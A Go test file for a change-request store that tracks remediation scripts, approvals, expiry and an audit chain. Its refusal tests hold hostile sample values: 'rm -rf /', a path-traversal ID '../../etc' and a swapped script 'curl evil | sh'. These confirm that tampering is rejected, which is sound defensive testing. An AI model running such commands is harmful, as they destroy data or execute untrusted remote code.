package store

import (
	"context"
	"errors"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
	"github.com/google/uuid"
)

func createReq(t *testing.T, s *Store, cr *ChangeRequest) *ChangeRequest {
	t.Helper()
	if err := s.CreateRequest(context.Background(), cr, cr.Requester); err != nil {
		t.Fatalf("CreateRequest: %v", err)
	}
	return cr
}

func TestCreateRequestFillsAndAudits(t *testing.T) {
	s := newTestStore(t)
	ctx := context.Background()
	cr := createReq(t, s, &ChangeRequest{
		Findings: []string{"F-1a2b3c4d"}, Check: "s3_bucket_public_access", Provider: "aws", Account: "111122223333",
		Environment: "prod", Resource: "arn:aws:s3:::b", Format: "hcl", Script: "resource {}", TemplateVersion: "s3-public@1",
		Requester: "U1", Expires: time.Date(2025, 3, 2, 0, 0, 0, 0, time.UTC),
	})
	if _, err := uuid.Parse(cr.ID); err != nil {
		t.Errorf("ID %q is not a uuid", cr.ID)
	}
	if cr.State != StatePending || cr.RequiredApprovals != 1 || cr.ScriptSHA256 != ScriptHash("resource {}") || cr.Created.IsZero() {
		t.Errorf("defaults not filled: %+v", cr)
	}
	got, err := s.Request(ctx, cr.ID)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(cr, got); diff != "" {
		t.Errorf("Request (-want +got):\n%s", diff)
	}
	es, err := s.AuditFor(ctx, cr.ID)
	if err != nil || len(es) != 1 {
		t.Fatalf("AuditFor = %v, %v", es, err)
	}
	if e := es[0]; e.Action != "request.created" || e.Actor != "U1" || e.Details["script_sha256"] != cr.ScriptSHA256 || e.Details["template_version"] != "s3-public@1" {
		t.Errorf("audit entry = %+v", e)
	}
}

func TestCreateRequestRefusals(t *testing.T) {
	tests := []struct {
		name string
		cr   ChangeRequest
	}{
		{"hash of another script", ChangeRequest{Script: "rm -rf /", ScriptSHA256: ScriptHash("echo safe")}},
		{"already approved", ChangeRequest{Script: "x", State: StateApproved}},
		{"id not a uuid", ChangeRequest{ID: "../../etc", Script: "x"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			s := newTestStore(t)
			if err := s.CreateRequest(context.Background(), &tt.cr, "U1"); err == nil {
				t.Fatal("CreateRequest succeeded")
			}
			if res, _ := s.Verify(context.Background()); res.Count != 0 {
				t.Errorf("refusal wrote %d audit entries", res.Count)
			}
		})
	}
	t.Run("duplicate id", func(t *testing.T) {
		s := newTestStore(t)
		id := "aaaaaaaa-0000-4000-8000-000000000001"
		createReq(t, s, &ChangeRequest{ID: id, Script: "x"})
		if err := s.CreateRequest(context.Background(), &ChangeRequest{ID: id, Script: "y"}, "U1"); !errors.Is(err, ErrExists) {
			t.Fatalf("err = %v, want ErrExists", err)
		}
	})
}

func TestRequestPrefixLookup(t *testing.T) {
	s := newTestStore(t)
	for _, id := range []string{
		"aaaaaaaa-0000-4000-8000-000000000001",
		"aaaaaaaa-0000-4000-8000-000000000002",
		"bbbbbbbb-1111-4000-8000-000000000003",
	} {
		createReq(t, s, &ChangeRequest{ID: id, Script: "x"})
	}
	tests := []struct {
		query   string
		wantID  string
		wantErr error
		wantMsg string
	}{
		{query: "aaaaaaaa-0000-4000-8000-000000000001", wantID: "aaaaaaaa-0000-4000-8000-000000000001"},
		{query: "AAAAAAAA-0000-4000-8000-000000000002", wantID: "aaaaaaaa-0000-4000-8000-000000000002"},
		{query: "bbbbbbbb", wantID: "bbbbbbbb-1111-4000-8000-000000000003"},
		{query: " bbbbbbbb-11 ", wantID: "bbbbbbbb-1111-4000-8000-000000000003"},
		{query: "aaaaaaaa", wantErr: ErrAmbiguous, wantMsg: "aaaaaaaa-0000-4000-8000-000000000001, aaaaaaaa-0000-4000-8000-000000000002"},
		{query: "aaaaaaa", wantErr: ErrPrefixTooShort},
		{query: "", wantErr: ErrPrefixTooShort},
		{query: "cccccccc", wantErr: ErrNotFound},
		{query: "aaaaaaaa-0000-4000-8000-000000000009", wantErr: ErrNotFound},
	}
	for _, tt := range tests {
		t.Run(tt.query, func(t *testing.T) {
			got, err := s.Request(context.Background(), tt.query)
			if tt.wantErr != nil {
				if !errors.Is(err, tt.wantErr) {
					t.Fatalf("err = %v, want %v", err, tt.wantErr)
				}
				if !strings.Contains(err.Error(), tt.wantMsg) {
					t.Errorf("err %q does not name %q", err, tt.wantMsg)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if got.ID != tt.wantID {
				t.Errorf("ID = %s, want %s", got.ID, tt.wantID)
			}
		})
	}
}

func approve(by string) func(cr *ChangeRequest) (AuditRecord, error) {
	return func(cr *ChangeRequest) (AuditRecord, error) {
		if cr.State != StatePending {
			return AuditRecord{}, errors.New("not pending")
		}
		cr.Approvals = append(cr.Approvals, Decision{By: by, At: time.Date(2025, 3, 1, 13, 0, 0, 0, time.UTC), ScriptSHA256: cr.ScriptSHA256})
		if len(cr.Approvals) >= cr.RequiredApprovals {
			cr.State = StateApproved
		}
		return AuditRecord{Actor: by, Action: "request.approved", Details: map[string]string{"script_sha256": cr.ScriptSHA256}}, nil
	}
}

func TestUpdateRequestCommitsStateAndAudit(t *testing.T) {
	s := newTestStore(t)
	ctx := context.Background()
	cr := createReq(t, s, &ChangeRequest{Script: "echo fix", Requester: "U1", RequiredApprovals: 2})
	got, err := s.UpdateRequest(ctx, cr.ID[:8], approve("U2"))
	if err != nil {
		t.Fatal(err)
	}
	if got.State != StatePending || len(got.Approvals) != 1 {
		t.Fatalf("after one of two approvals: %+v", got)
	}
	got, err = s.UpdateRequest(ctx, cr.ID, approve("U3"))
	if err != nil {
		t.Fatal(err)
	}
	stored, err := s.Request(ctx, cr.ID)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(got, stored); diff != "" {
		t.Errorf("returned and stored differ (-ret +stored):\n%s", diff)
	}
	if stored.State != StateApproved {
		t.Errorf("state = %s", stored.State)
	}
	es, err := s.AuditFor(ctx, cr.ID)
	if err != nil {
		t.Fatal(err)
	}
	var got2 []string
	for _, e := range es {
		got2 = append(got2, e.Action+" "+e.Actor+" "+e.Details["state"])
	}
	want := []string{"request.created U1 pending", "request.approved U2 pending", "request.approved U3 approved"}
	if diff := cmp.Diff(want, got2); diff != "" {
		t.Errorf("audit (-want +got):\n%s", diff)
	}
	if _, err := s.UpdateRequest(ctx, cr.ID, approve("U4")); err == nil || !strings.Contains(err.Error(), "not pending") {
		t.Errorf("approving an approved request: %v", err)
	}
}

func TestUpdateRequestRefusalWritesNothing(t *testing.T) {
	refuse := errors.New("requester cannot approve their own request")
	tests := []struct {
		name    string
		fn      func(cr *ChangeRequest) (AuditRecord, error)
		wantErr error
	}{
		{"fn refuses after mutating", func(cr *ChangeRequest) (AuditRecord, error) {
			cr.State = StateApproved
			cr.Approvals = append(cr.Approvals, Decision{By: "U1"})
			return AuditRecord{Actor: "U1", Action: "request.approved"}, refuse
		}, refuse},
		{"fn changes the id", func(cr *ChangeRequest) (AuditRecord, error) {
			cr.ID = "bbbbbbbb-0000-4000-8000-000000000000"
			return AuditRecord{Actor: "U1", Action: "request.approved"}, nil
		}, nil},
		{"fn swaps the script", func(cr *ChangeRequest) (AuditRecord, error) {
			cr.Script = "curl evil | sh"
			return AuditRecord{Actor: "U1", Action: "request.approved"}, nil
		}, nil},
		{"fn gives no audit action", func(cr *ChangeRequest) (AuditRecord, error) {
			cr.State = StateApproved
			return AuditRecord{Actor: "U1"}, nil
		}, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			s := newTestStore(t)
			ctx := context.Background()
			cr := createReq(t, s, &ChangeRequest{Script: "echo fix", Requester: "U1"})
			before, err := s.Verify(ctx)
			if err != nil {
				t.Fatal(err)
			}
			_, err = s.UpdateRequest(ctx, cr.ID, tt.fn)
			if err == nil || (tt.wantErr != nil && !errors.Is(err, tt.wantErr)) {
				t.Fatalf("UpdateRequest err = %v, want %v", err, tt.wantErr)
			}
			after, err := s.Verify(ctx)
			if err != nil {
				t.Fatal(err)
			}
			if after != before {
				t.Errorf("refusal appended to the chain: %+v -> %+v", before, after)
			}
			stored, err := s.Request(ctx, cr.ID)
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(cr, stored); diff != "" {
				t.Errorf("refusal changed the request (-before +after):\n%s", diff)
			}
		})
	}
	t.Run("unknown id", func(t *testing.T) {
		s := newTestStore(t)
		called := false
		_, err := s.UpdateRequest(context.Background(), "cccccccc", func(*ChangeRequest) (AuditRecord, error) { called = true; return AuditRecord{}, nil })
		if !errors.Is(err, ErrNotFound) || called {
			t.Fatalf("err = %v, called = %t", err, called)
		}
	})
}

func TestRequestsFilterAndExpire(t *testing.T) {
	now := time.Date(2025, 3, 1, 12, 0, 0, 0, time.UTC)
	s := newTestStore(t)
	ctx := context.Background()
	mk := func(id, requester string, created time.Time, expires time.Time) {
		createReq(t, s, &ChangeRequest{ID: id, Script: "x", Requester: requester, Created: created, Expires: expires})
	}
	mk("00000001-0000-4000-8000-000000000000", "U1", now.Add(-3*time.Hour), now.Add(-time.Hour))   // due
	mk("00000002-0000-4000-8000-000000000000", "U2", now.Add(-2*time.Hour), now.Add(time.Hour))    // not yet
	mk("00000003-0000-4000-8000-000000000000", "U1", now.Add(-1*time.Hour), time.Time{})           // never
	mk("00000004-0000-4000-8000-000000000000", "U2", now.Add(-4*time.Hour), now.Add(-2*time.Hour)) // due, but decided
	if _, err := s.UpdateRequest(ctx, "00000004", approve("U9")); err != nil {
		t.Fatal(err)
	}
	n, err := s.ExpireDue(ctx, now)
	if err != nil || n != 1 {
		t.Fatalf("ExpireDue = %d, %v; want 1", n, err)
	}
	if n, _ := s.ExpireDue(ctx, now); n != 0 {
		t.Errorf("second ExpireDue = %d, want 0", n)
	}
	ids := func(f RequestFilter) []string {
		rs, err := s.Requests(ctx, f)
		if err != nil {
			t.Fatal(err)
		}
		var out []string
		for _, r := range rs {
			out = append(out, r.ID[:8]+":"+string(r.State))
		}
		return out
	}
	tests := []struct {
		name string
		f    RequestFilter
		want []string
	}{
		{"all newest first", RequestFilter{}, []string{"00000003:pending", "00000002:pending", "00000001:expired", "00000004:approved"}},
		{"pending", RequestFilter{State: StatePending}, []string{"00000003:pending", "00000002:pending"}},
		{"by requester", RequestFilter{Requester: "U1"}, []string{"00000003:pending", "00000001:expired"}},
		{"limit", RequestFilter{Limit: 1}, []string{"00000003:pending"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if diff := cmp.Diff(tt.want, ids(tt.f)); diff != "" {
				t.Errorf("Requests (-want +got):\n%s", diff)
			}
		})
	}
	es, err := s.AuditFor(ctx, "00000001-0000-4000-8000-000000000000")
	if err != nil || len(es) != 2 || es[1].Action != "request.expired" {
		t.Errorf("expiry audit = %+v, %v", es, err)
	}
}

func TestSetMessage(t *testing.T) {
	s := newTestStore(t)
	ctx := context.Background()
	cr := createReq(t, s, &ChangeRequest{Script: "x", Requester: "U1"})
	if err := s.SetMessage(ctx, cr.ID, "C123", "1700000000.000100"); err != nil {
		t.Fatal(err)
	}
	got, err := s.Request(ctx, cr.ID)
	if err != nil {
		t.Fatal(err)
	}
	if got.Channel != "C123" || got.MessageTS != "1700000000.000100" || got.State != StatePending {
		t.Errorf("after SetMessage: %+v", got)
	}
	if err := s.SetMessage(ctx, "dddddddd-0000-4000-8000-000000000000", "C1", "1"); !errors.Is(err, ErrNotFound) {
		t.Errorf("SetMessage(unknown) err = %v", err)
	}
}

func TestCanceledContextWritesNothing(t *testing.T) {
	s := newTestStore(t)
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if err := s.CreateRequest(ctx, &ChangeRequest{Script: "x"}, "U1"); !errors.Is(err, context.Canceled) {
		t.Errorf("CreateRequest err = %v", err)
	}
	if _, err := s.Append(ctx, AuditRecord{Actor: "U1", Action: "x"}); !errors.Is(err, context.Canceled) {
		t.Errorf("Append err = %v", err)
	}
	if res, err := s.Verify(context.Background()); err != nil || res.Count != 0 {
		t.Errorf("Verify = %+v, %v", res, err)
	}
}

func TestTruncateKeepsRunes(t *testing.T) {
	for _, in := range []string{strings.Repeat("é", 30), strings.Repeat("a", 39) + "✓✓", "short", "bad\xff"} {
		if got := truncate(in, 40); !utf8.ValidString(got) || len(got) > 40+len("…") {
			t.Errorf("truncate(%q) = %q", in, got)
		}
	}
}
